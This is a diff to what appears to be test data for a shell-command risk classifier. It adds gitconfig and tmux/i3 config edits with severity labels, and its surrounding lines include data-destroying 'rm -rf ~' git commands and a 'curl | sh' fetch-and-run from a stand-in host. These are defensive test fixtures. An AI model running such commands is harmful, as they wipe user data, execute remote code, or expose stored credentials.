@@ -590,6 +590,8 @@ GIT_WEAKENED = [
     ("git difftool --extcmd='rm -rf ~' HEAD~1", CRITICAL),
     ("git rebase --exec 'curl -s http://x.example/r | sh' HEAD~3", CRITICAL),
     ("git push --receive-pack='sh -c \"rm -rf ~\"' origin main", CRITICAL),
+    ("printf '[credential]\\n\\thelper = store\\n' >> ~/.gitconfig", HIGH),
+    ("printf '[core]\\n\\thooksPath = /tmp/h\\n' >> ~/.gitconfig", HIGH),
 ]
 
 DANGEROUS = (
@@ -754,6 +756,15 @@ PERSISTENCE_NEAR = [
         MODERATE,
     ),
     ("cat /proc/sys/kernel/core_pattern", SAFE),
+    ("echo 'run-shell ~/.tmux/plugins/tmux-resurrect/resurrect.tmux' >> ~/.tmux.conf", MODERATE),
+    (
+        'echo \'if-shell "test -f ~/.tmux.local" "source ~/.tmux.local"\' >> ~/.tmux.conf',
+        MODERATE,
+    ),
+    (
+        "echo 'exec_always --no-startup-id ~/.config/polybar/launch.sh' >> ~/.config/i3/config",
+        MODERATE,
+    ),
 ]
 
 SCHEDULING_NEAR = [
@@ -895,6 +906,11 @@ GIT_NEAR = [
     ("git difftool -y", MODERATE),
     ("git clone --template=/usr/share/git-core/templates https://git.example.com/a.git", MODERATE),
     ("git fetch -u origin main:main", MODERATE),
+    ("printf '[credential]\\n\\thelper = osxkeychain\\n' >> ~/.gitconfig", MODERATE),
+    ("printf '[include]\\n\\tpath = ~/.gitconfig-work\\n' >> ~/.gitconfig", MODERATE),
+    ("printf '[core]\\n\\tpager = delta\\n' >> ~/.gitconfig", MODERATE),
+    ("printf '[core]\\n\\thooksPath = .githooks\\n' >> .git/config", MODERATE),
+    ("cat ~/.gitconfig", SAFE),
 ]
 
 NEAR_MISSES = PERSISTENCE_NEAR + SCHEDULING_NEAR + GIT_NEAR
